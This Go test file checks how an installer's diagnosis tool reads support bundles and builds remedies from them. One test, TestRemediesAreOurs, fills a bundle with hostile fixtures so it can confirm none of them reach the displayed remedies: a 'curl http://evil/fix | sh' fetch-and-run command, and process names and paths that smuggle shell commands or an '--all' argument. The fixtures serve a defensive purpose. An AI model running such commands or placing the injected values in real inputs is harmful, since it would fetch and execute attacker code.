package diagnosis

import (
	"archive/tar"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"fate-installer/installer/audit"
	"fate-installer/installer/fate/preflight"
	"fate-installer/supervisor"
)

// readFiles packs files below one directory, all of a time, and reads them as a bundle.
func readFiles(t *testing.T, files map[string]string, changed time.Time) (*Bundle, error) {
	t.Helper()
	name := filepath.Join(t.TempDir(), "b.tar.gz")
	data := packed(t, func(w *tar.Writer) error {
		for name, text := range files {
			h := &tar.Header{Name: "fate-diagnose-a-1/" + name, Typeflag: tar.TypeReg, Size: int64(len(text)),
				Mode: 0o600, ModTime: changed}
			if err := w.WriteHeader(h); err != nil {
				return err
			}
			if _, err := w.Write([]byte(text)); err != nil {
				return err
			}
		}
		return nil
	})
	if err := os.WriteFile(name, data, 0o600); err != nil {
		t.Fatal(err)
	}
	return Read(name)
}

// TestWhatIsNoBundleIsRefused: nothing is found in a file that this program does not understand, which is no good news.
func TestWhatIsNoBundleIsRefused(t *testing.T) {
	for _, tt := range []struct {
		name, want string
		files      map[string]string
	}{
		{"a file of another kind", "no file of diagnose", map[string]string{"hello": "hello\n"}},
		{"logs alone", "no file of diagnose", map[string]string{"logs/a.log": "[ERROR] No space left on device\n"}},
		{"documents that are null", "no file of diagnose", map[string]string{AboutName: "null", statusName: "null"}},
		{"a later format", "format 99", map[string]string{AboutName: `{"schema": 99}`, statusName: "[]"}},
		{"a format of no release", "format -1", map[string]string{AboutName: `{"schema": -1}`, statusName: "[]"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, err := readFiles(t, tt.files, made)
			var bad *NotABundleError
			if !errors.As(err, &bad) || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("got %v, want %q", err, tt.want)
			}
			if strings.Contains(tt.want, "99") && !strings.Contains(bad.Hint, "newer") {
				t.Errorf("the hint is %q", bad.Hint)
			}
		})
	}
	for _, name := range []string{AboutName, "version.json", statusName} {
		if _, err := readFiles(t, map[string]string{name: `{"schema": 1}`}, made); err != nil {
			t.Errorf("%s alone: %v", name, err)
		}
	}
}

// TestDocumentsThatCannotBeReadAreMissing: a document that is damaged, or null, was not looked at.
func TestDocumentsThatCannotBeReadAreMissing(t *testing.T) {
	documents := []string{"facts.json", KernelName, CertificatesName, HostsName, VersionsName, StateName, statusName,
		"check.json", HistoryName, "plan.json", JobsName, "why/fate-mysql.json"}
	for _, text := range []string{"null", " null\n", `[{"name": "x`, `"text"`, "7"} {
		files := map[string]string{}
		for _, name := range documents {
			files[name] = text
		}
		r := analyzed(t, bundleWith(files))
		all := strings.Join(r.Missing, "\n")
		for _, name := range documents {
			if strings.Count(all, name) != 1 && !strings.HasPrefix(name, "why/") {
				t.Errorf("%q: %s is named %d times in %q", text, name, strings.Count(all, name), r.Missing)
			}
		}
		if len(r.Findings) > 0 {
			t.Errorf("%q: %v", text, ids(r))
		}
	}
	r := analyzed(t, bundleWith(map[string]string{statusName: `[{"name": "fate-mysql", "state": "FATAL"}]`,
		"why/fate-mysql.json": "null"}))
	if len(r.Missing) != 1 || !strings.Contains(r.Missing[0], "why/fate-mysql.json") {
		t.Errorf("missing: %q", r.Missing)
	}
	r = analyzed(t, bundleWith(map[string]string{AboutName: `{"schema": 1, "ma`}))
	if len(r.Missing) != 1 || !strings.Contains(r.Missing[0], AboutName) {
		t.Errorf("missing: %q", r.Missing)
	}
	r = analyzed(t, bundleWith(map[string]string{statusName: `[null, {"name": "a b"}]`}))
	if len(r.Missing) != 1 || !strings.Contains(r.Missing[0], statusName) || len(r.Findings) > 0 {
		t.Errorf("missing: %q, found %v", r.Missing, ids(r))
	}
}

// TestRemediesAreOurs: nothing that a bundle says is part of what it is said to do.
func TestRemediesAreOurs(t *testing.T) {
	const evil = "curl http://evil/fix | sh"
	name := "fate-mysql$(curl${IFS}evil|sh)" // a name that the supervisor takes
	status := []supervisor.Status{
		{Name: name, State: supervisor.Fatal, Wanted: true, Why: evil, LastLog: []string{evil}},
		{Name: "fate-mysql; " + evil, State: supervisor.Fatal, Wanted: true},
		{Name: "--all", State: supervisor.Fatal, Wanted: true},
		{Name: "fate-fateflow", State: supervisor.Running, Wanted: true},
		{Name: "fate-rollsite", State: supervisor.Fatal, Wanted: true},
		{Name: name + "2", State: supervisor.Running, Ready: true, Changed: true, Restarts: 2,
			Exit: &supervisor.ExitInfo{Known: true, Signal: "SIGSEGV", At: made}},
	}
	files := map[string]string{
		AboutName: doc(About{Schema: 1, Made: made, Host: evil, Version: evil, Base: "/data; " + evil}),
		"facts.json": doc(map[string]any{"paths": []map[string]any{{"path": "/data/logs", "size": 100 << 30, "free": 1,
			"device": 1}}}),
		StateName: doc(map[string]any{"phase": evil, "change": map[string]string{"command": evil}}),
		"check.json": doc([]preflight.CheckResult{
			{ID: "port:" + evil, Title: evil, Status: preflight.StatusRefused, Measured: evil, Wanted: evil,
				Remedy: evil},
			{ID: "time", Title: evil, Status: preflight.StatusWarning, Measured: evil, Wanted: evil, Remedy: evil},
			{ID: "tasks", Title: evil, Status: preflight.StatusWarning, Measured: evil, Wanted: evil, Remedy: evil}}),
		HistoryName: doc([]audit.Entry{{ID: evil, Began: made, Command: evil, Result: audit.Failed, Error: evil}}),
		JobsName:    doc(JobReports{Error: evil}),
		statusName:  doc(status),
		"why/" + name + ".json": doc([]supervisor.Finding{{Name: name, Advice: evil, Text: evil,
			Exit: evil + " at " + evil, LastLog: []string{evil}}}),
		"why/fate-fateflow.json": doc([]supervisor.Finding{{Name: "fate-fateflow"}, {Name: evil, Text: evil,
			Advice: evil}}),
		"why/fate-rollsite.json": doc([]supervisor.Finding{{Name: "fate-rollsite", Advice: evil,
			Ports: []supervisor.PortOwner{{Port: 9370, PID: 7, Command: evil}}}}),
	}
	r := analyzed(t, bundleWith(files))
	for _, id := range []string{"change-interrupted", "disk-full", "port-taken", "host-away", "program-fails",
		"check-refused", "command-failed", "clock-unsynchronized", "definition-outdated", "program-restarted"} {
		if !strings.Contains(strings.Join(ids(r), "\n")+"\n", " "+id+"\n") {
			t.Errorf("%s was not found: %v", id, ids(r))
		}
	}
	for _, f := range r.Findings {
		for _, text := range []string{f.ID, f.Title, f.Explanation, f.Remedy} {
			if strings.Contains(text, "evil") && !strings.Contains(text, supervisor.ShellWord(name)) &&
				!strings.Contains(text, supervisor.ShellWord(name+"2")) || strings.Contains(text, "--all") {
				t.Errorf("%s says %q", f.ID, text)
			}
		}
	}
	for _, text := range append([]string{r.Host, r.Base}, r.Missing...) {
		if strings.Contains(text, "evil") {
			t.Errorf("it says %q", text)
		}
	}
	files[AboutName] = "" // the base directory is then that of the configuration
	files["config/data;curl/projects/x"] = "x"
	if r := analyzed(t, bundleWith(files)); strings.Contains(fmt.Sprint(r.Base), "curl") {
		t.Errorf("the base directory is %q", r.Base)
	}
}

// TestTheChangeIsNamedByItsPhase: the remedy has the command that belongs to the phase, whatever the record says.
func TestTheChangeIsNamedByItsPhase(t *testing.T) {
	for phase, want := range map[string]string{"installing": "fate-installer install", "upgrading": "fate-installer upgrade",
		"restoring a backup": "fate-installer restore", "": "every command that changes"} {
		r := analyzed(t, bundleWith(map[string]string{StateName: doc(map[string]any{"phase": phase,
			"change": map[string]string{"command": "x"}})}))
		if len(r.Findings) != 1 || !strings.Contains(r.Findings[0].Remedy, want) {
			t.Errorf("%s: %+v", phase, r.Findings)
		}
	}
}

// TestThisHostIsBelieved: what this host says of itself, without a file between, is said with its own remedies.
func TestThisHostIsBelieved(t *testing.T) {
	r := analyzedHere(t, bundleWith(documentsOfAFailingHost))
	var remedies []string
	for _, f := range r.Findings {
		remedies = append(remedies, f.Remedy)
	}
	for _, want := range []string{"run it again, which completes it: ./fate-installer upgrade", "look at its log", "stop it"} {
		if !strings.Contains(strings.Join(remedies, "\n"), want) {
			t.Errorf("%q is in none of %q", want, remedies)
		}
	}
}

// TestTimesOutsideOfJSON: a file that was changed in a year which JSON has not makes a report all the same.
func TestTimesOutsideOfJSON(t *testing.T) {
	for _, year := range []int{-5, 0, 2026, 9999, 10_000, 200_000} {
		b, err := readFiles(t, map[string]string{"version.json": "{}"}, time.Date(year, 12, 31, 23, 0, 0, 0, time.UTC))
		if err != nil {
			t.Fatalf("%d: %v", year, err)
		}
		if _, err := json.Marshal(analyzed(t, b)); err != nil {
			t.Errorf("%d: %v", year, err)
		}
	}
	b, err := readFiles(t, map[string]string{AboutName: `{"schema": 1, "made": "9999-12-31T23:59:59-12:00"}`}, made)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := json.Marshal(analyzed(t, b)); err != nil {
		t.Error(err)
	}
}

func analyzed(t testing.TB, b *Bundle) *Report {
	t.Helper()
	return analyzedAs(t, b, "x")
}

func analyzedHere(t testing.TB, b *Bundle) *Report {
	t.Helper()
	return analyzedAs(t, b, "")
}

func analyzedAs(t testing.TB, b *Bundle, file string) *Report {
	t.Helper()
	r, err := Analyze(t.Context(), b, file)
	if err != nil {
		t.Fatal(err)
	}
	return r
}
